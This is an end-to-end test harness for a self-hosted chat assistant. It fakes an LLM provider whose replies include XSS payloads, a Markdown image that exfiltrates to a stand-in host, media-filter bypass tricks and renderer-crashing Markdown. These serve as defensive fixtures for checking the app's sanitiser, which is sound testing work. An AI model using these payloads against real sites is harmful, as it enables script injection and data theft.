/**
 * The stack the Playwright tests run against (Playwright's `webServer` starts it and waits
 * for /api/health):
 *   - a real PostgreSQL (tests/support/postgres.ts);
 *   - the fake provider, in this process, replying with a word-by-word echo at a readable pace;
 *   - in front of it, a thin "directive" layer so a browser test can steer a reply through
 *     the message it types (Playwright cannot reach the fake's in-process `control`):
 *       #slow  a long reply, streamed slowly (~10 s)
 *       #long  a much longer one (~50 s), for tests that act while it streams and then Stop
 *       #code  Markdown with a code block, a table and a list
 *       #fail  a few words, then a provider error mid-stream; only the first time (for Retry)
 *       #xss   a reply full of script-injection attempts
 *       #broken a provider error before any text, every time
 *       #rich  a wide table, maths (inline, display, a price that is not maths) and a task list
 *       #hostile  ~135 KB of Markdown that froze or crashed the renderer (deep quotes and lists,
 *              emphasis and bracket runs, one huge paragraph), in 500-character chunks
 *       #media  remote media in every syntax a filter missed (backslash URLs, srcset, posters, …)
 *     and it answers the server's title requests with the first words of the message, so
 *     titles are predictable (and carry any payload the message had);
 *   - the real server (`bun server/index.ts`) serving the built app from web/build.
 * Push endpoints on 127.0.0.1:E2E_PORT+3 are allowed (phone.spec.ts plays the push service there).
 * Builds the app first when web/build is missing. Port: E2E_PORT (default 4321); the fake provider
 * listens on E2E_FAKE_PORT (default E2E_PORT + 1), so a spec can reach its /__fake/ control routes.
 */
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startCluster } from '../support/postgres';
import { startFakeProvider } from '../support/fake-provider/index';
import { startFakeSearxng } from '../support/fake-searxng';
import { startMcpServer } from '../support/mcp-server';

const root = join(import.meta.dir, '..', '..');
const port = Number(process.env.E2E_PORT ?? 4321);

if (!existsSync(join(root, 'web', 'build', 'index.html')) || process.env.E2E_BUILD === '1') {
  const build = Bun.spawnSync(['bun', 'run', 'build'], { cwd: root, stdout: 'inherit', stderr: 'inherit' });
  if (build.exitCode !== 0) process.exit(build.exitCode ?? 1);
}

const cluster = await startCluster();
const fake = await startFakeProvider(Number(process.env.E2E_FAKE_PORT ?? port + 1));
fake.chat.defaults.firstTokenDelayMs = 150;
fake.chat.defaults.chunkDelayMs = 70;
// For the tools spec, configured through the console: a SearXNG, a real MCP server (token
// below) and a second fake provider serving speech only, on free ports (fixed ones can collide
// with the machine's outgoing connections); the directive server's GET /__stack names them.
const searxng = await startFakeSearxng();
const mcp = await startMcpServer({ token: 'e2e-mcp-token' });
const speech = await startFakeProvider();

const XSS_REPLY = [
  'Here are some payloads, rendered harmlessly:',
  '',
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss=\'img\'">',
  '[click me](javascript:window.__xss=\'link\')',
  '<svg onload="window.__xss=\'svg\'"><circle r="5"/></svg>',
  '<iframe src="javascript:window.__xss=\'iframe\'"></iframe>',
  '<a href="#" onclick="window.__xss=\'onclick\'">raw link</a>',
  '![exfiltrate](https://evil.example/collect?q=secret)',
  '<details open ontoggle="window.__xss=\'toggle\'"><summary>x</summary></details>',
].join('\n\n');

const HOSTILE_REPLY = [
  'Hostile reply follows.',
  '>'.repeat(3000) + ' deep quote',
  '_a'.repeat(15000),
  '*a'.repeat(15000),
  Array.from({ length: 150 }, (_, i) => '  '.repeat(i) + '- item').join('\n'),
  '['.repeat(20000),
  'word '.repeat(6000),
  'The end of the hostile reply.',
].join('\n\n');
/** Exact pieces of `size` characters (a reply that is mostly one "word" would not stream otherwise). */
const slices = (text: string, size: number) => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));

const MEDIA_REPLY = [
  'Remote media, none of which may load:',
  // Markdown unescapes each pair, so the image's src is "\\evil.example/a.png": another host to a browser.
  '![backslash](\\\\\\\\evil.example/a.png)',
  '![slash-backslash](/\\evil.example/b.png)',
  '<img src="/\\evil.example/c.png" alt="raw backslash">',
  '<img src="/icons/icon-192.png" srcset="https://evil.example/d.png 2x" alt="srcset">',
  '<video poster="https://evil.example/e.png" src="https://evil.example/f.mp4" controls></video>',
  '<audio src="https://evil.example/g.mp3" autoplay></audio>',
  '<picture><source srcset="https://evil.example/h.png"><img src="/icons/icon-192.png" alt="picture"></picture>',
  '<input type="image" src="https://evil.example/i.png">',
  '<object data="https://evil.example/j.svg"></object>',
  '<embed src="https://evil.example/k.svg">',
  '<table background="https://evil.example/l.png"><tr><td>table</td></tr></table>',
  '<link rel="stylesheet" href="https://evil.example/m.css">',
  '![protocol-relative](//evil.example/n.png)',
  'The end of the media reply.',
].join('\n\n');

const CODE_REPLY = [
  'Here is a function:',
  '',
  '```ts',
  'export function greet(name: string): string {',
  '  // Say hello politely.',
  '  return `Hello, ${name}!`;',
  '}',
  '```',
  '',
  '| Language | Typed |',
  '| --- | --- |',
  '| TypeScript | yes |',
  '| JavaScript | no |',
  '',
  '- first item',
  '- second item',
].join('\n');

// What models write that plain Markdown mangles: a table wider than a phone, maths inline and
// on its own lines (with a thin space, `\,`), a price that is not maths, and a task list.
const RICH_REPLY = [
  'A comparison:',
  '',
  '| Algorithm | Complexity | Stability | Memory | Typical use |',
  '| --- | --- | --- | --- | --- |',
  '| Quicksort | O(n log n) | unstable | in place | general-purpose sorting |',
  '| Mergesort | O(n log n) | stable | O(n) extra | linked lists and external sorting |',
  '',
  'Euler: $e^{i\\pi} + 1 = 0$, and it costs $5 or $10.',
  '',
  '$$',
  '\\int_0^1 x^2 \\, dx = \\frac{1}{3}',
  '$$',
  '',
  '- [x] read the paper',
  '- [ ] write the summary',
].join('\n');

// One word per line, so the reply outgrows a phone's screen while it streams.
const SLOW_REPLY = Array.from({ length: 80 }, (_, i) => `word${i + 1}`).join('\n\n');
// For tests that act while a reply is still streaming (and then press Stop): long enough
// that a slow, loaded machine never sees it end first.
const LONG_REPLY = Array.from({ length: 400 }, (_, i) => `word${i + 1}`).join('\n\n');

function chunked(pieces: string[], delayMs: number, failAfter?: number): Response {
  const encoder = new TextEncoder();
  const id = `chatcmpl-${crypto.randomUUID()}`;
  const created = Math.floor(Date.now() / 1000);
  const chunk = (delta: Record<string, unknown>, finish: string | null) => ({
    id,
    object: 'chat.completion.chunk',
    created,
    model: 'gpt-4o-mini',
    choices: [{ index: 0, delta, finish_reason: finish }],
  });
  let cancelled = false;
  const body = new ReadableStream<Uint8Array>({
    async start(controller) {
      const send = (data: unknown) => {
        if (cancelled) return;
        controller.enqueue(encoder.encode(`data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`));
      };
      send(chunk({ role: 'assistant', content: '' }, null));
      for (const [i, piece] of pieces.entries()) {
        if (cancelled) return;
        if (failAfter !== undefined && i === failAfter) {
          send({ error: { message: 'The model is overloaded. Please try again.', type: 'server_error' } });
          controller.close();
          return;
        }
        await Bun.sleep(delayMs);
        send(chunk({ content: piece }, null));
      }
      send(chunk({}, 'stop'));
      send('[DONE]');
      if (!cancelled) controller.close();
    },
    cancel() {
      cancelled = true;
    },
  });
  return new Response(body, { headers: { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' } });
}

const failedOnce = new Set<string>();
const words = (text: string) => text.match(/\S+\s*|\s+/g) ?? [];

function lastUserText(messages: { role: string; content: unknown }[]): string {
  const last = [...messages].reverse().find((m) => m.role === 'user');
  if (!last) return '';
  if (typeof last.content === 'string') return last.content;
  if (Array.isArray(last.content)) return last.content.map((p: { text?: string }) => p.text ?? '').join(' ');
  return '';
}

/** Set once the admin account exists: the directive server's /__ready answers 200 from then on. */
let ready = false;

const directives = Bun.serve({
  // E2E_PORT + 2: Playwright waits for this server's /__ready (playwright.config.ts).
  port: port + 2,
  hostname: '127.0.0.1',
  idleTimeout: 0,
  async fetch(req) {
    const url = new URL(req.url);
    if (url.pathname === '/__ready') return new Response(ready ? 'ready' : 'starting', { status: ready ? 200 : 503 });
    // `database`, `dataDir`, `provider`: for a spec that starts a second instance of the app on
    // the same database (rooms-instances.spec.ts, through own-server.ts).
    if (url.pathname === '/__stack') {
      return Response.json({ searxng: searxng.url, mcp: mcp.url, speech: speech.url, database: cluster.url, dataDir, provider: providerUrl });
    }
    const forward = () => {
      const target = new URL(url.pathname + url.search, fake.url);
      return fetch(target, { method: req.method, headers: req.headers, body: bodyBytes });
    };
    // Forwarded as bytes: a recording upload is binary, and text decoding would corrupt it.
    const bodyBytes = req.method === 'GET' ? undefined : new Uint8Array(await req.arrayBuffer());
    const bodyText = bodyBytes ? new TextDecoder().decode(bodyBytes) : '';
    if (!url.pathname.endsWith('/chat/completions') || req.method !== 'POST') return forward();
    let parsed: { messages?: { role: string; content: unknown }[]; stream?: boolean; model?: string } = {};
    try {
      parsed = JSON.parse(bodyText);
    } catch {
      return forward();
    }
    const messages = parsed.messages ?? [];
    const system = messages.find((m) => m.role === 'system');
    if (parsed.stream !== false && typeof system?.content === 'string' && system.content.startsWith('You name conversations')) {
      const first = lastUserText(messages).split('\n\n').slice(1).join(' ');
      const title = first.replace(/#\w+/g, '').trim().split(/\s+/).slice(0, 5).join(' ') || 'Conversation';
      return chunked([title], 10);
    }
    const text = lastUserText(messages);
    if (text.includes('#tools')) {
      // A reply that thinks, searches the web, asks an MCP tool, then answers citing [1]:
      // one scripted round per request, told apart by the tool results already fed back.
      const rounds = messages.slice(messages.findLastIndex((m) => m.role === 'user')).filter((m) => m.role === 'tool').length;
      if (rounds === 0) {
        fake.chat.script({
          reasoning: ['The user asks what Parley is. ', 'I should search the web first, ', 'then check the team handbook.'],
          toolCalls: [{ name: 'web_search', arguments: { query: 'Parley assistant' } }],
          chunkDelayMs: 250,
          model: parsed.model,
        });
      } else if (rounds === 1) {
        fake.chat.script({ toolCalls: [{ name: 'facts__lookup', arguments: { query: 'Parley' } }], firstTokenDelayMs: 300, model: parsed.model });
      } else {
        fake.chat.script({ text: 'Parley is a self-hosted, voice-first assistant [1]. The handbook says the answer is 42.', chunkDelayMs: 40, model: parsed.model });
      }
      return forward();
    }
    if (text.includes('#long')) return chunked(words(LONG_REPLY), 120);
    if (text.includes('#slow')) return chunked(words(SLOW_REPLY), 120);
    if (text.includes('#code')) return chunked(words(CODE_REPLY), 15);
    if (text.includes('#xss')) return chunked(words(XSS_REPLY), 5);
    if (text.includes('#rich')) return chunked(words(RICH_REPLY), 5);
    if (text.includes('#hostile')) return chunked(slices(HOSTILE_REPLY, 500), 5);
    if (text.includes('#media')) return chunked(words(MEDIA_REPLY), 5);
    // Fails before any text, every time.
    if (text.includes('#broken')) return chunked(['never sent'], 0, 0);
    // Fails the first time for a given message, so Retry can succeed.
    if (text.includes('#fail') && !failedOnce.has(text)) {
      failedOnce.add(text);
      return chunked(words('Let me think about that for a'), 60, 4);
    }
    return forward();
  },
});
const providerUrl = `http://127.0.0.1:${directives.port}`;

const dataDir = mkdtempSync(join(tmpdir(), 'parley-e2e-'));
const server = Bun.spawn(['bun', join(root, 'server', 'index.ts')], {
  cwd: root,
  env: {
    ...process.env,
    NODE_ENV: 'production',
    DATABASE_URL: cluster.url,
    DATA_DIR: dataDir,
    PORT: String(port),
    HOST: '127.0.0.1',
    PUBLIC_URL: `http://127.0.0.1:${port}`,
    AUTH_IP_LIMIT: '100000',
    AUTH_ACCOUNT_LIMIT: '1000',
    OPENAI_BASE_URL: `${providerUrl}/v1`,
    OPENAI_API_KEY: 'test',
    MISTRAL_SERVER_URL: providerUrl,
    MISTRAL_API_KEY: 'test',
    DEFAULT_MODEL: 'openai:gpt-4o-mini',
    // The push service a spec plays (tests/support/push-service.ts) listens on E2E_PORT + 3.
    PUSH_ALLOWED_HOSTS: `127.0.0.1:${port + 3}`,
    LOG_LEVEL: process.env.LOG_LEVEL ?? 'warn',
  },
  stdout: 'inherit',
  stderr: 'inherit',
});

let stopping = false;
function stop(code = 0) {
  if (stopping) return;
  stopping = true;
  server.kill('SIGTERM');
  directives.stop(true);
  fake.stop();
  searxng.stop();
  mcp.stop();
  speech.stop();
  cluster.destroy();
  rmSync(dataDir, { recursive: true, force: true });
  process.exit(code);
}
process.on('SIGINT', () => stop());
process.on('SIGTERM', () => stop());
console.log(`e2e stack: app http://127.0.0.1:${port}, provider ${providerUrl}, database ${cluster.url}`);

// An install that has its admin already, as every spec but the first-run one expects (a fresh
// install's sign-in page offers to create the admin account instead: first-run.spec.ts). The
// stack is ready for Playwright (/__ready) only once this account exists.
const base = `http://127.0.0.1:${port}`;
for (let i = 0; ; i++) {
  if (await fetch(`${base}/api/health`).then((r) => r.ok, () => false)) break;
  if (i > 600) stop(1);
  await Bun.sleep(100);
}
const seeded = await fetch(`${base}/api/auth/register`, {
  method: 'POST',
  headers: { 'content-type': 'application/json', origin: base },
  // A known password (tests/e2e/helpers.ts ADMIN) so the admin console's specs can sign in as it.
  body: JSON.stringify({ email: 'admin@example.test', password: process.env.E2E_ADMIN_PASSWORD ?? 'e2e admin passphrase', name: 'Admin' }),
});
if (seeded.status !== 201) {
  console.error(`seeding the admin failed: ${seeded.status} ${await seeded.text()}`);
  stop(1);
}
ready = true;
const exit = await server.exited;
if (!stopping) {
  console.error(`server exited with ${exit}`);
  stop(1);
}
